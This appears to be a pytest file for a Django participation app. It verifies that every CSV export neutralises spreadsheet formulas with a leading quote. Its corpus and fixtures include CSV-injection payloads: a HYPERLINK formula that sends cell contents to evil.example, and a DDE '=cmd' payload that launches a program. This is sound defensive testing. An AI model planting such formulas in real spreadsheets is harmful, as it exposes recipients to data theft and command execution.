"""CSV injection: every cell the product exports that a spreadsheet would run as a formula is
neutralised with a leading single quote (OWASP), through the one shared writer."""

import csv
import io
from pathlib import Path

import pytest
from django.urls import get_resolver, reverse

import cocrea
from cocrea.core.csv import SafeWriter, safe_cell
from cocrea.proposals.models import Proposal, PublicComment

from .factories_participation import RegistrationFactory, TableFactory
from .test_publication_drafts import test_the_draft_comments_csv as draft_comments_csv
from .test_selection_pages import (
    test_the_ranking_export_neutralises_formulas as ranking_export_neutralises_formulas,
)

# (cell as typed, cell as exported)
CORPUS = [
    ("=1+1", "'=1+1"),
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+507 6555-0101", "'+507 6555-0101"),
    ("Ana Pérez", "Ana Pérez"),
    ("a=b", "a=b"),
    (" =1+1", " =1+1"),
    ('O\'Brien, Ana; "la jefa"', 'O\'Brien, Ana; "la jefa"'),
    ("", ""),
    (None, ""),
    (42, "42"),
    (-3, "'-3"),
]


@pytest.mark.parametrize(("typed", "exported"), CORPUS)
def test_safe_cell_neutralises_formulas(typed, exported):
    assert safe_cell(typed) == exported


def test_safe_writer_round_trips_through_a_csv_reader():
    stream = io.StringIO()
    SafeWriter(stream).writerows([[typed for typed, _ in CORPUS]])
    [row] = list(csv.reader(io.StringIO(stream.getvalue())))
    assert row == [exported for _, exported in CORPUS]


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_open_call_registrations_export_neutralises_formulas(client, secretary, plan):
    RegistrationFactory(
        plan=plan,
        full_name='=HYPERLINK("http://evil.example","Ver")',
        email="ana@x.net",
        phone="+507 6555-0101",
        organisation_name="@SUM(A1)",
        accessibility="-1+2",
        region=None,
    )
    client.force_login(secretary)
    response = client.get(reverse("participation:registrations_csv", args=[plan.slug]))
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"
    header, row = _rows(response)
    assert header[:4] == ["full_name", "email", "phone", "organisation"]
    assert row[:4] == [
        '\'=HYPERLINK("http://evil.example","Ver")',
        "ana@x.net",
        "'+507 6555-0101",
        "'@SUM(A1)",
    ]
    assert row[8] == "'-1+2"


def test_public_comments_export_neutralises_formulas(client, secretary, plan):
    table = TableFactory(plan=plan, number=1)
    proposal = Proposal.objects.create(
        plan=plan,
        working_table=table,
        axis=table.axes.get(),
        slot="commitment_1",
        title_es="+Datos abiertos",
        status=Proposal.Status.SUBMITTED,
    )
    PublicComment.objects.create(
        proposal=proposal, author_name="@Ana", body='=HYPERLINK("http://evil.example","Ver")'
    )
    client.force_login(secretary)
    response = client.get(reverse("workspace:comments_csv", args=[plan.slug]))
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"
    header, row = _rows(response)
    assert header[:6] == [
        "Escrito",
        "Autoría",
        "Propuesta",
        "Mesa de trabajo",
        "Eje temático",
        "Comentario",
    ]
    assert row[1:3] == ["'@Ana", "'+Datos abiertos"]
    assert row[5] == '\'=HYPERLINK("http://evil.example","Ver")'
    assert row[-1].endswith(f"{proposal.get_absolute_url()}#comment-{proposal.comments.get().pk}")


def test_reasoned_response_export_neutralises_formulas(client, plan):
    table = TableFactory(plan=plan, number=1)
    Proposal.objects.create(
        plan=plan,
        working_table=table,
        axis=table.axes.get(),
        slot="commitment_1",
        title_es='=HYPERLINK("http://evil.example","Ver")',
        status=Proposal.Status.SUBMITTED,
    )
    response = client.get(reverse("public:reasoned_response_csv", args=[plan.slug]))
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"
    header, row = _rows(response)
    assert header[3] == "Propuesta"
    assert row[3] == '\'=HYPERLINK("http://evil.example","Ver")'


# Every CSV download of the product, with the test above that exercises it through HTTP.
CSV_EXPORTS = {
    "participation:registrations_csv": test_open_call_registrations_export_neutralises_formulas,
    "workspace:comments_csv": test_public_comments_export_neutralises_formulas,
    "public:reasoned_response_csv": test_reasoned_response_export_neutralises_formulas,
    "selection:ranking_csv": ranking_export_neutralises_formulas,
    "public:reasoned_response_draft_comments_csv": draft_comments_csv,
}


def _csv_routes(resolver, prefix="") -> set[str]:
    found = set()
    for pattern in resolver.url_patterns:
        namespace = getattr(pattern, "namespace", None)
        if hasattr(pattern, "url_patterns"):
            found |= _csv_routes(pattern, f"{prefix}{namespace}:" if namespace else prefix)
        elif ".csv" in str(pattern.pattern) and pattern.name:
            found.add(prefix + pattern.name)
    return found


def test_every_csv_export_is_exercised_here():
    assert _csv_routes(get_resolver()) == set(CSV_EXPORTS)


def test_only_the_shared_writer_uses_the_csv_module():
    root = Path(cocrea.__file__).parent
    users = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if any(
            line.strip().startswith(("import csv", "from csv "))
            for line in path.read_text().splitlines()
        )
    )
    assert users == ["core/csv.py"]
